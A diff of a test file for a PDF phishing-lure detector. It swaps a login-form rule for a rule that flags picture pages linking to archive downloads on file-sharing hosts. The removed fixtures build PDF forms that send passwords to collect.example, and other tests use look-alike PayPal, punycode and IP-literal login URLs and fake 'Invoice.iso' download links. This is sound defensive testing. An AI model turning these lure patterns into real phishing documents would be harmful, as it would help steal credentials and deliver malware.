@@ -8,13 +8,13 @@ import { MITIGATIONS } from "../mitigations";
 import type { RenderFacts } from "../render/render-facts";
 import { buildLurePdf, pdfString, prose, type LureDocument } from "../render/testing/lure-pdf";
 import { lureFakeProtectedDocument } from "./lure-fake-protected-document";
+import { lureImageDownloadLink } from "./lure-image-download-link";
 import { lureLinkDominantPage } from "./lure-link-dominant-page";
-import { lureLoginForm, passwordFields } from "./lure-login-form";
 import { lureQrCode, lureQrCodeSuspiciousUrl } from "./lure-qr-code";
 import { parserDifferential } from "./parser-differential";
 import { RULE_CATEGORIES, type Rule } from "./rule";
 
-const RULES = [lureQrCode, lureQrCodeSuspiciousUrl, lureFakeProtectedDocument, lureLinkDominantPage, lureLoginForm, parserDifferential];
+const RULES = [lureQrCode, lureQrCodeSuspiciousUrl, lureFakeProtectedDocument, lureLinkDominantPage, lureImageDownloadLink, parserDifferential];
 const LIVE_LINK = /\b(https?|ftp):\/\/[^\s[]+\.[a-z]/i;
 const PAGE = [0, 0, 612, 792] as [number, number, number, number];
 
@@ -30,21 +30,6 @@ async function firing(spec: LureDocument | Uint8Array): Promise<{ ids: string[];
     }
   }
   return { ids: [...hits.keys()].sort(), facts, hits };
-}
-
-/** A login form: a user and a password field and a button submitting them to `submit`. */
-function loginForm(opts: { password?: string; submit?: string; script?: string }): LureDocument {
-  return {
-    pages: [{ lines: ["Account login"] }],
-    setup(b) {
-      const user = b.add("<< /FT /Tx /T (email) /Rect [72 600 300 620] /Subtype /Widget >>");
-      const fields = [user];
-      if (opts.password) fields.push(b.add(`<< /FT /Tx ${opts.password} /Rect [72 560 300 580] /Subtype /Widget >>`));
-      const action = opts.submit ? `/A << /S /SubmitForm /F << /FS /URL /F ${pdfString(opts.submit)} >> /Flags 4 >>` : opts.script ? `/A << /S /JavaScript /JS ${hexString(opts.script)} >>` : "";
-      fields.push(b.add(`<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget ${action} >>`));
-      return { catalog: `/AcroForm << /Fields [${fields.map((f) => `${f} 0 R`).join(" ")}] >>` };
-    },
-  };
 }
 
 describe("lure rules: declarations", () => {
@@ -77,7 +62,7 @@ describe("lure-qr-code / lure-qr-code-suspicious-url", () => {
   it.each([
     ["a URL shortener", "https://bit.ly/3abcDEF", "URL shortener"],
     ["an IP-literal host", "http://185.220.101.7/o365/login.php", "IP-literal host"],
-    ["a punycode host", "https://xn--pypal-4ve.com/signin", "punycode host"],
+    ["a punycode look-alike host", "https://xn--pypal-4ve.com/signin", "punycode look-alike host"],
     ["a javascript: URI", "javascript:app.launchURL('x')", "javascript: URI"],
     ["a look-alike brand", "https://paypa1-account.example/verify", "look-alike spelling of paypal"],
   ])("flags a QR code leading to %s", async (_name, url, flag) => {
@@ -139,38 +124,34 @@ describe("lure-link-dominant-page", () => {
   });
 });
 
-describe("lure-login-form", () => {
-  it("fires on a password field (flag) submitted to a web server", async () => {
-    const { ids, hits } = await firing(loginForm({ password: "/T (secret) /Ff 8192", submit: "https://collect.example/post.php" }));
-    expect(ids).toContain("lure-login-form");
-    expect(hits.get("lure-login-form")!.confidence).toBe("high");
+/**
+ * A one-page picture with one link over it. `inForm`: the image is painted inside a form XObject, so a
+ * reading of the page's own content stream does not see it (rendering does).
+ */
+function picturePage(url: string, inForm: boolean): Uint8Array {
+  const b = new PdfBuilder();
+  const gray = new Uint8Array(64 * 64).fill(0x90);
+  const img = b.addStream("/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8", gray);
+  const paint = "q 560 0 0 740 26 26 cm /Im0 Do Q";
+  const form = b.addStream(`/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Im0 ${img} 0 R >> >>`, paint);
+  const content = b.addStream("", inForm ? "/Fm0 Do" : paint);
+  const annot = b.add(`<< /Type /Annot /Subtype /Link /Rect [150 300 460 420] /Border [0 0 0] /A << /S /URI /URI ${pdfString(url)} >> >>`);
+  const resources = inForm ? `/XObject << /Fm0 ${form} 0 R >>` : `/XObject << /Im0 ${img} 0 R >>`;
+  b.addCatalog("", 1, `/Resources << ${resources} >> /Contents ${content} 0 R /Annots [${annot} 0 R]`);
+  return b.build();
+}
+
+describe("lure-image-download-link", () => {
+  it("fires on a rendered picture page whose one link fetches an archive from a file-sharing host", async () => {
+    const { ids, hits } = await firing(picturePage("https://drive.google.com/uc?export=download&id=1x&name=Invoice.iso", true));
+    expect(ids).toContain("lure-image-download-link");
+    expect(hits.get("lure-image-download-link")!.evidence[0].excerpt).toContain("disk-image");
   });
 
-  it("fires on a password-like name and a script's submitForm", async () => {
-    const { ids, hits } = await firing(loginForm({ password: "/T (Passwort)", script: 'this.submitForm({cURL: "https://collect.example/p", cSubmitAs: "HTML"});' }));
-    expect(ids).toContain("lure-login-form");
-    expect(hits.get("lure-login-form")!.confidence).toBe("medium");
-  });
-
-  it("does not fire without a password field, without a submission, or when mailing the form", async () => {
-    expect((await firing(loginForm({ submit: "https://forms.example/apply" }))).ids).toEqual([]);
-    expect((await firing(loginForm({ password: "/T (pwd) /Ff 8192" }))).ids).toEqual([]);
-    expect((await firing(loginForm({ password: "/T (pwd) /Ff 8192", submit: "mailto:hr@example.com" }))).ids).toEqual([]);
-  });
-
-  it("reads inherited /FT and /Ff and full field names", async () => {
-    const { facts } = await firing(
-      buildLurePdf({
-        pages: [{}],
-        setup(b) {
-          const kid = b.add("<< /T (confirm) /Subtype /Widget /Rect [0 0 10 10] >>");
-          const parent = b.add(`<< /T (login) /FT /Tx /Ff 8192 /Kids [${kid} 0 R] >>`);
-          const passport = b.add("<< /T (passportNumber) /FT /Tx >>");
-          return { catalog: `/AcroForm << /Fields [${parent} 0 R ${passport} 0 R] >>` };
-        },
-      }),
-    );
-    expect(passwordFields(facts.doc).map((f) => [f.name, f.why])).toEqual([["login.confirm", "Password flag"]]);
+  it("leaves a page the structure already shows to the fast rule, and ignores documents and paid hosts", async () => {
+    expect((await firing(picturePage("https://www.dropbox.com/s/k3x9/Invoice.zip?dl=1", false))).ids).not.toContain("lure-image-download-link");
+    expect((await firing(picturePage("https://www.dropbox.com/s/k3x9/Invoice.pdf?dl=1", true))).ids).not.toContain("lure-image-download-link");
+    expect((await firing(picturePage("https://downloads.example.com/Invoice.zip", true))).ids).not.toContain("lure-image-download-link");
   });
 });
 
